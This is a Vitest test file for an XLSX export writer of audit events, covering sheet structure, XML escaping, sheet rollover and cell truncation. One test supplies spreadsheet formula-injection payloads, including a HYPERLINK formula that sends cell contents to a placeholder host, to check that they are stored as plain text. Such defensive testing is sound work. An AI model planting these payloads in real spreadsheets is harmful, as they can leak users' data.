import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import type { EventRow } from '../../src/db/queries/events';
import { EXCEL_CELL_MAX_CHARS, SHEET_NAME, xlsxFormat } from '../../src/export/xlsx-writer';
import { collectBytes } from '../helpers/bytes';
import { EXPORT_HEADER, readWorkbook, sheetValues, zipEntryText } from '../helpers/xlsx';

const SHEET1 = 'xl/worksheets/sheet1.xml';

let nextId = 1;
/** A row as the export query gives it; `message` and the rest can be overridden. */
function row(overrides: Partial<EventRow> = {}): EventRow {
  return {
    id: nextId++,
    eventTimestamp: '2026-11-20 16:00:00+00',
    functionality: 'Pricing',
    eventType: 'Price changed',
    storeLocationId: 101,
    storeName: 'Downtown',
    companyId: 5001,
    companyName: 'Acme',
    username: 'alice',
    message: 'plain',
    status: 'Success',
    additionalData: { a: 1 },
    ...overrides,
  } as EventRow;
}

/** The workbook's bytes for these batches of rows. */
function workbook(batches: EventRow[][], rowsPerSheet = 1_048_575): Uint8Array {
  const out = collectBytes();
  const writer = xlsxFormat.open(out.sink, { rowsPerSheet });
  for (const batch of batches) writer.write(batch);
  writer.end();
  return out.bytes();
}

/** The XML of the one cell of column `column` in data row `dataRow` (1 = the first row after the header). */
function cellXml(sheetXml: string, column: string, dataRow: number): string | undefined {
  const ref = `${column}${dataRow + 1}`;
  return new RegExp(`<c r="${ref}"[^>]*>[\\s\\S]*?</c>`).exec(sheetXml)?.[0];
}

describe('xlsx writer: the workbook', () => {
  it('opens in exceljs as the old workbook: one sheet, bold header, typed cells, Central timestamps', async () => {
    const first = row({ id: 42, eventTimestamp: '2026-11-01 06:30:00+00', additionalData: { note: 'a,b' } });
    const second = row({ id: 41, storeName: null, companyName: null, username: null, additionalData: null });
    const book = await readWorkbook(workbook([[first], [second]]));
    expect(book.worksheets.map((s) => s.name)).toEqual([SHEET_NAME]);
    const sheet = book.getWorksheet(SHEET_NAME);
    expect(sheetValues(sheet)).toEqual([
      EXPORT_HEADER,
      [
        42,
        '11-01-2026 01:30:00',
        'Pricing',
        'Price changed',
        'Downtown',
        'Acme',
        'alice',
        'plain',
        'Success',
        '{"note":"a,b"}',
      ],
      [41, '11-20-2026 10:00:00', 'Pricing', 'Price changed', '', '', '', 'plain', 'Success', ''],
    ]);
    expect(sheet?.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet?.getRow(2).getCell(1).font?.bold).toBeFalsy();
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('keeps no shared-strings table: text cells are inline strings (or string values for CR)', async () => {
    const bytes = workbook([
      [row({ message: 'one' }), row({ message: 'one' }), row({ message: 'a\r\nb', storeName: null })],
    ]);
    const zip = await JSZip.loadAsync(bytes, { checkCRC32: true });
    expect(Object.keys(zip.files).sort()).toEqual(
      [
        '[Content_Types].xml',
        '_rels/.rels',
        SHEET1,
        'xl/_rels/workbook.xml.rels',
        'xl/styles.xml',
        'xl/workbook.xml',
      ].sort(),
    );
    const sheet = zipEntryText(bytes, SHEET1);
    expect(cellXml(sheet, 'H', 1)).toBe('<c r="H2" t="inlineStr"><is><t>one</t></is></c>');
    expect(cellXml(sheet, 'H', 3)).toBe('<c r="H4" t="str"><v>a&#13;\nb</v></c>');
    expect(cellXml(sheet, 'A', 1)).toMatch(/^<c r="A2"><v>\d+<\/v><\/c>$/);
    // An empty text (a null store) is no cell at all.
    expect(cellXml(sheet, 'E', 1)).toBe('<c r="E2" t="inlineStr"><is><t>Downtown</t></is></c>');
    expect(cellXml(sheet, 'E', 3)).toBeUndefined();
  });

  it('continues on "Audit Events 2", ... past rowsPerSheet, each sheet with the header, across batches', async () => {
    const rows = Array.from({ length: 7 }, (_, i) => row({ message: `m${i}` }));
    const bytes = workbook([rows.slice(0, 3), rows.slice(3, 4), [], rows.slice(4)], 3);
    const book = await readWorkbook(bytes);
    expect(book.worksheets.map((s) => s.name)).toEqual([SHEET_NAME, `${SHEET_NAME} 2`, `${SHEET_NAME} 3`]);
    const messages = book.worksheets.map((s) => sheetValues(s).map((r) => r[7]));
    expect(messages).toEqual([
      ['Message', 'm0', 'm1', 'm2'],
      ['Message', 'm3', 'm4', 'm5'],
      ['Message', 'm6'],
    ]);
    expect(zipEntryText(bytes, '[Content_Types].xml')).toContain('/xl/worksheets/sheet3.xml');
    expect(zipEntryText(bytes, 'xl/_rels/workbook.xml.rels')).toContain('Target="worksheets/sheet3.xml"');
  });

  it('is a valid workbook with just the header when there are no rows', async () => {
    const book = await readWorkbook(workbook([]));
    expect(sheetValues(book.worksheets[0])).toEqual([EXPORT_HEADER]);
  });

  it('reports the characters of XML each batch made, to size the next batch', () => {
    const writer = xlsxFormat.open(() => {}, { rowsPerSheet: 1_048_575 });
    const small = writer.write([row({ id: 1000, message: 'x' })]);
    const large = writer.write([row({ id: 1001, message: 'x'.repeat(10_000) })]);
    expect(small).toBeGreaterThan(100);
    expect(large - small).toBe(9_999);
    expect(writer.write([])).toBe(0);
  });
});

describe('xlsx writer: text that XML or Excel cannot take as is', () => {
  it('escapes markup and writes control characters and literal _xHHHH_ in Excel notation', async () => {
    const message = 'a & b <c> "d" bell\u0007 vt\u000b nul\u0000 \ufffe literal _x0041_ end';
    const bytes = workbook([[row({ message })]]);
    expect(cellXml(zipEntryText(bytes, SHEET1), 'H', 1)).toBe(
      '<c r="H2" t="inlineStr"><is><t>a &amp; b &lt;c&gt; "d" bell_x0007_ vt_x000B_ nul_x0000_ _xFFFE_ literal _x005F_x0041_ end</t></is></c>',
    );
    // The XML is well formed: an XML parser gives the markup back as text. (exceljs leaves the
    // _xHHHH_ notation as written; Excel and LibreOffice decode it: export.libreoffice.test.ts.)
    const book = await readWorkbook(bytes);
    expect(book.worksheets[0]?.getRow(2).getCell(8).value).toMatch(/^a & b <c> "d" bell_x0007_ vt/);
  });

  it('keeps a CR: a string value when the text needs no notation, an inline string with &#13; when it does', () => {
    const sheet = zipEntryText(
      workbook([[row({ message: 'a\r\nb & _x0041_' }), row({ message: 'cr\r\n and bell\u0007 end' })]]),
      SHEET1,
    );
    expect(cellXml(sheet, 'H', 1)).toBe('<c r="H2" t="str"><v>a&#13;\nb &amp; _x0041_</v></c>');
    expect(cellXml(sheet, 'H', 2)).toBe('<c r="H3" t="inlineStr"><is><t>cr&#13;\n and bell_x0007_ end</t></is></c>');
  });

  it('writes text that looks like a formula as text, never as a formula', async () => {
    const formulas = ['=HYPERLINK("https://x/?"&A2,"open")', '+1+1', '-2+3', '@SUM(A1)', '\t=tab'];
    const bytes = workbook([formulas.map((message) => row({ message, username: message }))]);
    const sheet = zipEntryText(bytes, SHEET1);
    expect(sheet).not.toContain('<f>');
    expect(cellXml(sheet, 'H', 1)).toBe(
      '<c r="H2" t="inlineStr"><is><t>=HYPERLINK("https://x/?"&amp;A2,"open")</t></is></c>',
    );
    const values = sheetValues((await readWorkbook(bytes)).worksheets[0]).slice(1);
    expect(values.map((r) => r[7])).toEqual(formulas);
    expect(values.map((r) => r[6])).toEqual(formulas);
  });

  it('preserves leading and trailing spaces', async () => {
    const bytes = workbook([[row({ message: '  padded  ' }), row({ message: 'inner  spaces' })]]);
    const sheet = zipEntryText(bytes, SHEET1);
    expect(cellXml(sheet, 'H', 1)).toBe('<c r="H2" t="inlineStr"><is><t xml:space="preserve">  padded  </t></is></c>');
    expect(cellXml(sheet, 'H', 2)).toBe('<c r="H3" t="inlineStr"><is><t>inner  spaces</t></is></c>');
    expect((await readWorkbook(bytes)).worksheets[0]?.getRow(2).getCell(8).value).toBe('  padded  ');
  });

  it("cuts a cell at Excel's 32,767 characters, never through a surrogate pair", async () => {
    const long = 'x'.repeat(EXCEL_CELL_MAX_CHARS + 100);
    const emojiAtCut = `${'y'.repeat(EXCEL_CELL_MAX_CHARS - 1)}😀tail`;
    const exact = 'z'.repeat(EXCEL_CELL_MAX_CHARS);
    const book = await readWorkbook(
      workbook([[row({ message: long }), row({ message: emojiAtCut }), row({ message: exact })]]),
    );
    const messages = sheetValues(book.worksheets[0])
      .slice(1)
      .map((r) => r[7] as string);
    expect(messages[0]).toBe('x'.repeat(EXCEL_CELL_MAX_CHARS));
    expect(messages[1]).toBe('y'.repeat(EXCEL_CELL_MAX_CHARS - 1));
    expect(messages[2]).toBe(exact);
  });
});
